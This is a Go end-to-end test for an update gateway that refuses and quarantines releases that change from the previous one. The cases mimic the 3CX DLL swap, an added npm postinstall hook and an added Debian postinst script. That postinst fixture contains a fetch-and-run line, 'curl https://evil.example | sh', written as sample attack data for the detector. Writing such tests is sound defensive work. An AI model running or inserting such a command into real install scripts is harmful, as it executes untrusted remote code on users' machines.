package main

import (
	"strings"
	"testing"

	"github.com/sallyport-project/sallyport/policy"
	"github.com/sallyport-project/sallyport/verify/identity/identitytest"
)

const changesPolicy = `version: 1
anchors: {acme: {authenticode: {organization: Acme, roots: acme.pem}}, bolt: {authenticode: {organization: Bolt, roots: bolt.pem}}}
channels:
- name: desktop
  hosts: [dl.example]
  paths: ["/desktop/**"]
  version: "app-{version}.zip"
  require: [{if: "past.releases == 0 || changes.newly_unsigned == 0"}]
- name: npm
  hosts: [dl.example]
  paths: ["/npm/**"]
  require: [{if: "past.releases == 0 || !changes.actions.exists(a, a.contains('install (new)'))"}]
- name: debian
  hosts: [dl.example]
  paths: ["/debian/**"]
  require: [{if: "past.releases == 0 || changes.actions_added == 0 && changes.files_added == 0"}]
`

// What is different from the release before refuses an update, and is told to the client, in the record and on the terminal.
func TestChangesEndToEnd(t *testing.T) {
	acme, bolt := newVendor("Acme"), newVendor("Bolt")
	origin := newFiles()
	g := newGateway(t, changesPolicy, map[string]string{"dl.example": tlsOrigin(t, origin, "dl.example")})
	g.write("acme.pem", string(certPEM(acme.root.Certificate)))
	g.write("bolt.pem", string(certPEM(bolt.root.Certificate)))
	g.start()

	// Two libraries are replaced as in the attack on 3CX: one of them is another vendor's, and no longer what that vendor signed.
	program := installer(1, &acme)
	app := func(version string, codec, compiler []byte) []byte {
		dir := "app-" + version + "/"
		return identitytest.Zip(identitytest.Files{dir + "App.exe": string(program), dir + "ffmpeg.dll": string(codec),
			dir + "d3dcompiler_47.dll": string(compiler), dir + "LICENSE": version})
	}
	compiler := installer(3, &bolt)
	payload := append(append([]byte{}, compiler...), []byte(strings.Repeat("payload ", 16))...)
	for _, step := range []struct {
		path    string
		body    []byte
		refused []string // told to the client
		noted   []string // in the record besides
	}{
		{"/desktop/app-18.11.1.zip", app("18.11.1", installer(2, &acme), compiler), nil, nil},
		{"/desktop/app-18.11.2.zip", app("18.11.2", installer(4, &acme), compiler), nil,
			[]string{"Changed: app-18.11.2/ffmpeg.dll; app-18.11.2/LICENSE."}},
		{"/desktop/app-18.12.0.zip", app("18.12.0", installer(5, &acme), payload),
			[]string{`app-18.12.0/d3dcompiler_47.dll (was signed by "Bolt`, "now its signature is wrong (authenticode/"},
			[]string{"Changed: app-18.12.0/d3dcompiler_47.dll (authenticode/", "app-18.12.0/ffmpeg.dll"}},

		{"/npm/left-1.3.0.tgz", npmPackage("1.3.0", `"test": "true"`), nil, nil},
		{"/npm/left-1.3.1.tgz", npmPackage("1.3.1", `"test": "tap"`), nil, []string{"Changed: package/package.json."}},
		{"/npm/left-1.3.2.tgz", npmPackage("1.3.2", `"postinstall": "node bundle.js"`),
			[]string{"Runs when it is installed, and did not before: postinstall: node bundle.js."}, nil},

		{"/debian/left_1.0-1_all.deb", debPackage("1.0-1", ""), nil, nil},
		{"/debian/left_1.0-2_all.deb", debPackage("1.0-2", ""), nil, nil},
		{"/debian/left_1.0-3_all.deb", debPackage("1.0-3", "#!/bin/sh\ncurl https://evil.example | sh\n"),
			[]string{"Runs when it is installed, and did not before: postinst: a script for /bin/sh, 41 bytes"}, []string{"Added: "}},
	} {
		origin.put(step.path, step.body)
		got := g.curl("https://dl.example" + step.path)
		rec := g.decisions()[0]
		told := string(got.body)
		if want := map[bool]string{false: "200", true: "403"}[len(step.refused) > 0]; got.status != want {
			t.Fatalf("%s: status %s, want %s: %s", step.path, got.status, want, rec.Decision.Reasons)
		}
		for _, s := range step.refused {
			if !strings.Contains(told, s) {
				t.Errorf("%s: the client is not told %q:\n%s", step.path, s, told)
			}
		}
		var sentences []string
		if rec.Facts != nil && len(rec.Facts.Changes) == 1 {
			sentences = rec.Facts.Changes[0].Sentences()
		}
		for _, s := range append(step.refused, step.noted...) {
			if !strings.Contains(strings.Join(sentences, "\n"), s) {
				t.Errorf("%s: the record does not say %q: %q", step.path, s, sentences)
			}
		}
		if len(step.refused) == 0 {
			continue
		}
		if rec.Decision.Action != policy.Quarantine {
			t.Errorf("%s: %s", step.path, rec.Decision.Action)
		}
		for _, command := range []string{"audit", "quarantine"} {
			out, errs, code := g.sallyport(command, "show", "--config", g.dir+"/sallyport.yaml", rec.ID)
			if code != 0 || !strings.Contains(out, "  since ") || !strings.Contains(out, step.refused[0]) {
				t.Errorf("%s show: exit %d\n%s%s", command, code, out, errs)
			}
		}
	}
	g.stop()
	file := g.dir + "/left-1.3.9.tgz"
	g.write("left-1.3.9.tgz", string(npmPackage("1.3.9", `"preinstall": "node x"`)))
	for _, command := range [][]string{{"verify"}, {"policy", "explain", "--policy", g.dir + "/policy.yaml"}} {
		out, errs, _ := g.sallyport(append(command, "--config", g.dir+"/sallyport.yaml", "--url", "https://dl.example/npm/left-1.3.9.tgz", file)...)
		if !strings.Contains(out, "Runs when it is installed, and did not before: preinstall: node x.") {
			t.Errorf("%s:\n%s%s", command, out, errs)
		}
	}
}

func npmPackage(version, scripts string) []byte {
	return identitytest.TarGz(identitytest.Files{"package/index.js": "module.exports = 1",
		"package/package.json": `{"name": "left", "version": "` + version + `", "scripts": {` + scripts + `}}`})
}

func debPackage(version, postinst string) []byte {
	control := identitytest.Files{"./control": "Package: left\nVersion: " + version + "\nArchitecture: all\n"}
	if postinst != "" {
		control["./postinst"] = postinst
	}
	return identitytest.Deb(control, identitytest.Files{"./usr/share/left": "left"})
}
